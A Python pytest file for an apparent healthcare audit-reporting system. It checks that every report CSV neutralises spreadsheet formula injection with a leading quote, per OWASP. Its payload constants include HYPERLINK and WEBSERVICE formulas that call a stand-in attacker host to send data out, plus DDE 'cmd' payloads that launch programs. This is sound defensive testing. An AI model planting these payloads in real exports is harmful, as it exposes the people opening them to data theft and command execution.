"""Report CSVs never hand a spreadsheet a formula (issue 15 item 4).

The attack: an application writes audit events whose principal, workstation, break-the-glass
reason, patient reference or disclosure text starts with ``=``, ``+``, ``-``, ``@``, a tab or a
carriage return (``=HYPERLINK(...)``, ``@SUM(...)``, ``-2+3``), and a lab system names a critical
result the same way. An auditor opens the report CSV in a spreadsheet. Every report type is built
from a real store holding such values in every text column the report shows, and the CSV is read
back with the csv module: no cell may start with a trigger, and each hostile value must still be
there in full after the single quote OWASP recommends.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal

from sqlalchemy import Engine, insert, text

from custody.audit import AuditEvent, AuditLog, AuditStatus, DataClassification, Keyring
from custody.audit.partitions import ensure_partitions
from custody.labs.tables import critical_results
from custody.reports.model import Period, ReportType
from custody.reports.queries import build_report
from custody.reports.render import FORMULA_TRIGGERS, neutralise_formula, write_csv
from tests.support.reports import DISCLOSURE_REQUESTS_DDL

UTC = dt.UTC
PERIOD = Period(dt.datetime(2026, 10, 1, tzinfo=UTC), dt.datetime(2026, 11, 1, tzinfo=UTC))

# One payload per trigger, each a formula a spreadsheet would run.
PRINCIPAL = '=HYPERLINK("http://attacker.example/?"&A1,"open")'
PATIENT = "+MRN0001+cmd|' /C calc'!A0"
WORKSTATION = "@SUM(1+1)*cmd|' /C calc'!A0"
REASON = "-2+3+cmd|' /C calc'!A0"
EMERGENCY_REASON = "\t=1+1"
DENIED_REASON = "\r=1+1"
RECIPIENT = '=WEBSERVICE("http://attacker.example")'
DESCRIPTION = "+1+1"
PURPOSE = "-1+1"
DISCLOSER = "@disclosing-user"
RESULT_ID = "=R-1"
ANALYTE = "+Potassium"
JOB = "-job-1"
RUN = "@run-1"

# Columns whose values the report's own query constrains: audit actions are dotted lowercase
# words (and the query filters on their prefix), statuses are an enum, months and the audit
# cross-check's verdict are computed by the report.
CONSTRAINED = {
    ("notifications", "audit"),
    ("after_hours", "action"),
    ("failed", "action"),
    ("runs", "action"),
    ("runs", "status"),
    ("by_month", "month"),
}


def _event(when: dt.datetime, **fields: object) -> AuditEvent:
    values: dict[str, object] = {
        "occurred_at": when,
        "principal": PRINCIPAL,
        "action": "phi.access.read",
        "resource_type": "patient",
        "resource_id": PATIENT,
        "data_classification": DataClassification.PHI,
        "details": {"workstation": WORKSTATION, "reason": REASON},
    }
    values.update(fields)
    return AuditEvent.model_validate(values)


def _plant(engine: Engine, keyring: Keyring) -> None:
    ensure_partitions(engine, dt.date(2026, 9, 1), 3)
    day = dt.datetime(2026, 10, 5, 3, 0, tzinfo=UTC)  # 03:00 UTC: after hours
    events = [_event(dt.datetime(2026, 9, 10, 12, tzinfo=UTC))]  # baseline for unusual volume
    events += [_event(day + dt.timedelta(minutes=i)) for i in range(55)]
    events.append(
        _event(
            day + dt.timedelta(hours=1),
            action="phi.access.emergency",
            details={"workstation": WORKSTATION, "reason": EMERGENCY_REASON},
        )
    )
    events.append(
        _event(
            day + dt.timedelta(hours=2),
            status=AuditStatus.DENIED,
            details={"workstation": WORKSTATION, "reason": DENIED_REASON},
        )
    )
    events.append(
        _event(
            day + dt.timedelta(days=1),
            principal=DISCLOSER,
            action="phi.disclosure.made",
            details={"recipient": RECIPIENT, "description": DESCRIPTION, "purpose": PURPOSE},
        )
    )
    events.append(
        _event(
            day + dt.timedelta(days=2),
            principal="svc-pipelines",
            action="lab.ingestion.file",
            resource_type="job",
            resource_id=JOB,
            correlation_id=RUN,
            data_classification=DataClassification.INTERNAL,
            details={},
        )
    )
    AuditLog(engine, keyring).log_batch(events)
    with engine.begin() as connection:
        connection.execute(text(DISCLOSURE_REQUESTS_DDL.format(ts="timestamptz")))
        connection.execute(
            text("INSERT INTO disclosure_requests (request_id, patient_ref) VALUES ('DR-X', :p)"),
            {"p": PATIENT},
        )
        detected = dt.datetime(2026, 10, 6, 8, tzinfo=UTC)
        connection.execute(
            insert(critical_results).values(
                result_id=RESULT_ID, analyte=ANALYTE, rule_set="default", loinc_code="2823-3",
                direction="high", limit_value=Decimal("6.2"), detected_at=detected,
                acknowledged_at=detected + dt.timedelta(minutes=10), acknowledged_by="rn01",
            )
        )  # fmt: skip


def test_issue_15_item_4_no_report_csv_cell_runs_as_a_formula(
    pg_store: Engine, keyring: Keyring
) -> None:
    """Issue 15 item 4: hostile text in every text column of every report stays inert."""
    _plant(pg_store, keyring)
    text_columns: set[tuple[str, str]] = set()
    hostile_columns: set[tuple[str, str]] = set()
    for kind in ReportType:
        report = build_report(
            pg_store, kind, PERIOD, keyring=keyring, request_id="DR-X", timezone="UTC"
        )
        out = io.BytesIO()
        write_csv(report, out)
        records = list(csv.reader(io.StringIO(out.getvalue().decode("utf-8"), newline="")))
        by_table: dict[str, list[list[str]]] = {}
        for record in records:
            by_table.setdefault(record[0], []).append(record[1:])
        for table in report.tables:
            header, *cells = by_table[table.name]
            assert header == table.columns
            raw = list(table.rows())
            assert len(cells) == len(raw), table.name
            for raw_row, csv_row in zip(raw, cells, strict=True):
                for column, value, cell in zip(table.columns, raw_row, csv_row, strict=True):
                    if not isinstance(value, str):
                        continue
                    text_columns.add((table.name, column))
                    assert not cell.startswith(FORMULA_TRIGGERS), (table.name, column, cell)
                    if value.startswith(FORMULA_TRIGGERS):
                        hostile_columns.add((table.name, column))
                        assert cell == "'" + value, (table.name, column)  # original kept
                    else:
                        assert cell == value
    # Every text column of every report was attacked, except those the query constrains.
    assert hostile_columns == text_columns - CONSTRAINED
    assert {t for t, _ in hostile_columns} >= {
        "by_principal", "after_hours", "emergency", "failed", "unusual_volume",
        "disclosures", "notifications", "runs",
    }  # fmt: skip


def test_issue_15_item_4_numbers_stay_numbers_and_every_trigger_is_caught() -> None:
    """Issue 15 item 4: each OWASP trigger gets the quote; plain text and numbers do not."""
    for trigger in ("=", "+", "-", "@", "\t", "\r"):
        assert neutralise_formula(f"{trigger}1+1") == f"'{trigger}1+1"
    assert neutralise_formula("dr.who") == "dr.who"
    assert neutralise_formula("a=1") == "a=1"  # only the first character matters
    from custody.reports.model import Report, ReportTable

    report = Report(
        ReportType.PIPELINE_ACTIVITY,
        "t",
        PERIOD,
        dt.datetime(2026, 11, 1, tzinfo=UTC),
        tables=[
            ReportTable("t", "T", ["n", "d", "s"], lambda: iter([(-5, Decimal("-1.5"), "-5")]))
        ],
    )
    out = io.BytesIO()
    write_csv(report, out)
    assert out.getvalue() == b"t,n,d,s\r\nt,-5,-1.5,'-5\r\n"
